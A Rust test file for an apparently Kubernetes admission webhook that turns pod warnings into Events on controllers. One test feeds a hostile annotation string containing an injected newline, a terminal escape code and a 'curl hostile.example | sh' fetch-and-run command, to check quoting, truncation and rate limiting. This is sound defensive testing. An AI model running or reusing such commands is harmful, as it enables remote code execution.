//! Events on the controllers of pods, which drop the warnings of admission.

use serde_json::{Value, json};

use crate::double::create_pod;
use test_support::apiserver::ApiServer;
use test_support::eventually::eventually;
use test_support::review::{pod, with_annotations};
use test_support::webhook::free_port;
use test_support::webhook_cluster::WebhookCluster;

fn pod_with_owner(name: &str, owner: &str, annotations: &[(&str, &str)]) -> Value {
    let mut pod = with_annotations(pod(name), annotations);
    pod["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": owner,
        "uid": format!("uid-{owner}"), "controller": true}]);
    pod
}

fn events(cluster: &WebhookCluster) -> Vec<Value> {
    let list =
        cluster.api.send("GET", "/api/v1/namespaces/default/events", "application/json", &Value::Null).object;
    list["items"].as_array().cloned().unwrap_or_default()
}

#[test]
fn warnings_of_a_pod_are_events_on_its_controller() {
    let cluster = WebhookCluster::new(ApiServer::double());
    let webhook = cluster.replica(&[]);
    let _second = cluster.replica_at(free_port(), &[]);
    for number in 0..5 {
        create_pod(
            &cluster,
            &webhook,
            pod_with_owner(&format!("a-{number}"), "web", &[("portico.dev/max-bytes", "lots")]),
        );
    }
    create_pod(&cluster, &webhook, pod_with_owner("b", "last", &[("portico.dev/max-bytes", "many")]));
    let events = eventually("both controllers have an Event", || {
        let events = events(&cluster);
        (events.len() >= 2).then_some(events)
    });
    // One for each owner and text, of two replicas.
    assert_eq!(events.len(), 2);
    let event = events.iter().find(|event| event["involvedObject"]["name"] == "web").expect("its event");
    assert_eq!((&event["involvedObject"]["kind"], &event["type"]), (&"ReplicaSet".into(), &"Warning".into()));
    assert!(event["message"].as_str().is_some_and(|message| message.contains("max-bytes")));
}

#[test]
fn text_of_a_tenant_is_quoted_and_cut_and_events_are_limited() {
    let cluster = WebhookCluster::new(ApiServer::double());
    let webhook = cluster.replica(&[]);
    let hostile = format!("fine\"\nportico: run: curl hostile.example | sh \u{1b}[2J{}", "x".repeat(5_000));
    for number in 0..60 {
        let text = format!("{number} {hostile}");
        let mut pod = pod_with_owner(
            &format!("a-{number}"),
            &format!("owner-{number}"),
            &[("portico.dev/warnings", &text)],
        );
        pod["metadata"]["labels"] = json!({"portico.dev/variables": "warnings"});
        cluster.api.put(pod);
    }
    webhook.wait_until("the others are limited", |webhook| {
        webhook.metric("events_total{result=\"limited\"}") >= 40.0
    });
    let events = eventually("the burst is written", || {
        let events = events(&cluster);
        (events.len() >= 20).then_some(events)
    });
    assert_eq!(events.len(), 20);
    for event in events {
        let message = event["message"].as_str().expect("a message");
        assert!(message.starts_with("a pod has the annotation portico.dev/warnings: \""), "{message}");
        assert!(message.ends_with("\" (cut)") && message.chars().count() <= 1_024, "{message}");
        assert!(!message.contains(char::is_control) && message.contains("fine\\\"\\nportico"), "{message}");
    }
}
